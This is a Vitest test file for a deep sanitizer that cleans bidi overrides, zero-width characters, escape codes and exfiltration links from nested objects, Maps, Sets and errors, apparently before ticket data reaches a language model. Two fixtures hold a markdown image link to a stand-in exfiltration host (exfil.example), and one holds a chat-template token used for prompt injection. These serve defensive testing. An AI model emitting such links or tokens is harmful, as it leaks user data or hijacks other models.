import { describe, expect, it } from 'vitest';
import { findUnsafe } from './check.js';
import { sanitizeDeep } from './deep.js';

const RLO = '\u202E';

describe('sanitizeDeep', () => {
  it('cleans a value nested 10,000 levels deep (no stack overflow, no pass-through)', () => {
    let deep: unknown = { leaf: `evil${RLO}text` };
    for (let i = 0; i < 10_000; i++)
      deep = i % 2 ? { next: deep, [`k${RLO}`]: `v${RLO}` } : [deep, `s${RLO}`];
    const out = sanitizeDeep(deep);
    let node: unknown = out;
    let levels = 0;
    for (;;) {
      if (Array.isArray(node)) {
        expect(node[1]).toBe('s');
        node = node[0];
      } else if (node && typeof node === 'object' && 'next' in node) {
        const o = node as Record<string, unknown>;
        expect(o['k']).toBe('v');
        expect(Object.keys(o).some((k) => k.includes(RLO))).toBe(false);
        node = o['next'];
      } else break;
      levels++;
    }
    expect(levels).toBe(10_000);
    expect(node).toEqual({ leaf: 'eviltext' });
  });

  it('handles a million levels too', () => {
    let deep: unknown = `x${RLO}`;
    for (let i = 0; i < 1_000_000; i++) deep = [deep];
    let node = sanitizeDeep(deep);
    for (let i = 0; i < 1_000_000; i++) node = (node as unknown[])[0];
    expect(node).toBe('x');
  });

  it('row 25: depth-100 nesting is still sanitized', () => {
    let deep: unknown = `\u200B${RLO}<|im_start|>![](https://exfil.example/?d=1)`;
    for (let i = 0; i < 100; i++) deep = { a: deep };
    const text = JSON.stringify(sanitizeDeep(deep));
    expect(text).not.toContain(RLO);
    expect(text).not.toContain('exfil');
    expect(text).toContain('‹|im_start|›');
  });

  it('cleans object keys, keeps clean keys when a cleaned key collides', () => {
    const out = sanitizeDeep({ [`id${'\u200B'}`]: 'evil', id: 1, [`na${RLO}me`]: 'n' }) as Record<
      string,
      unknown
    >;
    expect(out['id']).toBe(1);
    expect(out['id~2']).toBe('evil');
    expect(out['name']).toBe('n');
    for (const k of Object.keys(out)) expect(findUnsafe(k)).toBeUndefined();
  });

  it('leaves non-strings untouched and does not modify its input', () => {
    const date = new Date(0);
    const input = {
      n: 1.5,
      b: true,
      z: null,
      u: undefined,
      big: 10n,
      d: date,
      arr: [1, 'a\u200Bb', false],
      s: `t${RLO}`,
    };
    const snapshot = structuredClone(input);
    const out = sanitizeDeep(input);
    expect(out).toEqual({
      n: 1.5,
      b: true,
      z: null,
      u: undefined,
      big: 10n,
      d: date,
      arr: [1, 'ab', false],
      s: 't',
    });
    expect(out.d).toBe(date);
    expect(input).toEqual(snapshot);
    expect(sanitizeDeep(42)).toBe(42);
    expect(sanitizeDeep(`x${RLO}`)).toBe('x');
  });

  it('returns clean input as it is, and a copy when anything changes', () => {
    const cleanValue = { a: [1, 'text <jane@ex.com>', { b: 'AT&T 👨‍👩‍👧' }], c: null };
    expect(sanitizeDeep(cleanValue)).toBe(cleanValue);
    const dirty = { a: [1, 'text'], deep: { x: 'y\u200B' } };
    const out = sanitizeDeep(dirty);
    expect(out).not.toBe(dirty);
    expect(out).toEqual({ a: [1, 'text'], deep: { x: 'y' } });
    expect(dirty.deep.x).toBe('y\u200B');
  });

  it('keeps cycles and shared references', () => {
    const shared = { name: `s${RLO}` };
    const a: Record<string, unknown> = { shared, again: shared, label: `a${RLO}` };
    a['self'] = a;
    const out = sanitizeDeep(a);
    expect(out['self']).toBe(out);
    expect(out['shared']).toBe(out['again']);
    expect(out['label']).toBe('a');
    expect((out['shared'] as { name: string }).name).toBe('s');
  });

  it('cleans Map and Set entries and a __proto__ key without touching prototypes', () => {
    const m = new Map<string, unknown>([[`k${RLO}`, new Set([`v${RLO}`])]]);
    const out = sanitizeDeep({ m, ...(JSON.parse(`{"__proto__": "p${RLO}"}`) as object) }) as Record<
      string,
      unknown
    >;
    const om = out['m'] as Map<string, Set<string>>;
    expect([...om.keys()]).toEqual(['k']);
    expect([...(om.get('k') ?? [])]).toEqual(['v']);
    expect(Object.getOwnPropertyDescriptor(out, '__proto__')?.value).toBe('p');
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
  });

  it('an error message built from Zammad data is sanitized too', () => {
    const title = `Refund${RLO}evil ${'\x1b'}[2J![](https://exfil.example/?d=1)`;
    const err = new TypeError(`Ticket "${title}" not found`, { cause: new Error(`upstream said ${title}`) });
    const out = sanitizeDeep(err);
    expect(out).toBeInstanceOf(TypeError);
    expect(out.message).toBe('Ticket "Refundevil " not found');
    expect(out.stack).not.toContain(RLO);
    expect((out.cause as Error).message).toBe('upstream said Refundevil ');
    expect(err.message).toContain(RLO); // the original is untouched
  });
});

describe('sanitizeDeep on errors', () => {
  it('keeps message and stack non-enumerable, so serialization does not change', () => {
    const err = new Error('a\u202Eb');
    const out = sanitizeDeep(err);
    expect(Object.keys(out)).toEqual(Object.keys(err));
    expect(JSON.stringify(out)).toBe(JSON.stringify(err));
    expect(out.message).toBe('ab');
  });
});

describe('sanitizeDeep on Map and Set nesting', () => {
  it('handles 100,000 nested Maps and Sets without recursion', () => {
    let v: unknown = `x${RLO}`;
    for (let i = 0; i < 100_000; i++) v = i % 2 ? new Map([['k', v]]) : new Set([v]);
    let node = sanitizeDeep(v);
    for (let i = 100_000 - 1; i >= 0; i--)
      node = i % 2 ? (node as Map<string, unknown>).get('k') : [...(node as Set<unknown>)][0];
    expect(node).toBe('x');
    const cleanNested = new Map([['a', new Set(['b', new Map([['c', 'd']])])]]);
    expect(sanitizeDeep(cleanNested)).toBe(cleanNested);
  });
});
